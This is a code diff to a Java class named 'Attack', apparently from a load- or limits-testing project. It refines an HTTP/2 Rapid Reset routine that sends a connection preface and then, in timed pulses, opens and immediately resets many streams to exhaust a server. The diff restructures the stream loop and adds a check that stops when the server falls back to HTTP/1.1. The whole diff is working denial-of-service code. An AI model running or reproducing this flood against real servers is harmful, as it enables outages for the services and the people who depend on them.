@@ -6,6 +6,7 @@ import dev.holdfast.limits.Time;
 import java.io.ByteArrayOutputStream;
 import java.io.IOException;
 import java.net.Socket;
+import java.net.SocketTimeoutException;
 import java.time.Duration;
 import java.util.concurrent.ConcurrentHashMap;
 import java.util.concurrent.atomic.LongAdder;
@@ -170,7 +171,7 @@ final class Attack implements AutoCloseable {
         if (in.read() < 0) {
           return;
         }
-      } catch (java.net.SocketTimeoutException e) {
+      } catch (SocketTimeoutException e) {
         // as it should be: idle
       }
     }
@@ -179,16 +180,22 @@ final class Attack implements AutoCloseable {
   private void rapidReset(Socket socket) throws IOException, InterruptedException {
     var out = socket.getOutputStream();
     out.write(Frames.preface());
-    int stream = 1;
-    while (!over) {
+    for (int stream = 1; !over && !saysGoodbye(socket); stream += 2 * STREAMS_PER_PULSE) {
       var pulse = new ByteArrayOutputStream();
-      for (int i = 0; i < STREAMS_PER_PULSE; i++, stream += 2) {
-        pulse.writeBytes(Frames.get(stream, Front.HOST));
-        pulse.writeBytes(Frames.reset(stream));
+      for (int i = 0; i < STREAMS_PER_PULSE; i++) {
+        pulse.writeBytes(Frames.get(stream + 2 * i, Front.HOST));
+        pulse.writeBytes(Frames.reset(stream + 2 * i));
       }
       out.write(pulse.toByteArray());
       time.sleep(PULSE);
     }
+  }
+
+  /** Reads what has come; whether a connection that resets streams was answered in HTTP/1.1. */
+  private static boolean saysGoodbye(Socket socket) throws IOException {
+    var in = socket.getInputStream();
+    int there = in.available();
+    return there > 0 && in.readNBytes(there)[0] == 'H';
   }
 
   /** Ends it and closes every connection. */
